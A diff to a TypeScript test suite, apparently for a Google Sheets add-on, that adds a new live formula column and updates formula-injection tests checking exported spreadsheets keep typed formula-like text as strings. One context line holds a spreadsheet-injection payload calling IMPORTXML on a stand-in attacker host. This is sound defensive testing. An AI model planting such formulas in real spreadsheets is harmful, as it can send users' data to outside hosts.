@@ -10,6 +10,7 @@ import { exportXlsxBuffer } from '@ppid-sheets/emulator';
 import { header, toCsv } from '../../scripts/lib/generate-register';
 import { runReport } from '../../scripts/runner';
 import { REGISTER_COLUMNS, COMPUTED_COLUMNS } from '../../src/core/register';
+import { DIK_COLUMNS } from '../../src/core/dip';
 
 /** What a cell holds when an officer types text that starts like a formula (Sheets needs the apostrophe). */
 const typed = (s: string) => `'${s}`;
@@ -25,6 +26,9 @@ function isOwnFormula(sheet: string, r: number, c: number, formula: string): boo
   if (sheet === 'Register' && r === 1 && c >= first && c < first + COMPUTED_COLUMNS.length)
     return /^=?ARRAYFORMULA\(/.test(formula);
   if (sheet === 'Hari Libur' && r === 1 && c === 5) return /^=?ARRAYFORMULA\(/.test(formula);
+  // The DIK's live exemption status (issue #27), its last column.
+  if (sheet === 'Informasi yang Dikecualikan' && r === 1 && c === DIK_COLUMNS.length)
+    return /^=?ARRAYFORMULA\(/.test(formula);
   // The formula-form probe's live columns (hidden sheet, synthetic rows), beside its 6 inputs.
   if (sheet === 'PPID Uji Rumus' && r === 1 && c > 6 && c <= 6 + COMPUTED_COLUMNS.length)
     return /^=?ARRAYFORMULA\(/.test(formula);
@@ -251,8 +255,8 @@ describe('formula injection through the bundle: recap, Periksa Data, form', () =
   test("the exported xlsx holds no formula but the add-on's own, and the typed text as strings", async () => {
     const { stray, own, strings } = await strayXlsxFormulas(await exportXlsxBuffer(em.spreadsheet));
     expect(stray).toEqual([]);
-    // The register's live columns, the holiday column, and the hidden probe's live columns.
-    expect(own).toBe(2 * COMPUTED_COLUMNS.length + 1);
+    // The register's live columns, the holiday column, the hidden probe's live columns, the DIK's status.
+    expect(own).toBe(2 * COMPUTED_COLUMNS.length + 2);
     for (const s of [...CHANNELS, ...TOPICS, '=001', '=IMPORTXML("http://evil.example","//a")'])
       expect(strings).toContain(s);
   });
@@ -300,8 +304,8 @@ describe("formula injection through the offline runner's CSV import", () => {
     expect(String(names[5]).replace(/^\n/, '\r')).toBe(dangerous[5]);
     const { stray, own, strings } = await strayXlsxFormulas(fs.readFileSync(path.join(out, 'spreadsheet.xlsx')));
     expect(stray).toEqual([]);
-    // The register's live columns, the holiday column, and the hidden probe's live columns.
-    expect(own).toBe(2 * COMPUTED_COLUMNS.length + 1);
+    // The register's live columns, the holiday column, the hidden probe's live columns, the DIK's status.
+    expect(own).toBe(2 * COMPUTED_COLUMNS.length + 2);
     expect(strings).toContain(dangerous[0]);
     expect(strings).toContain(dangerous[3]);
   });
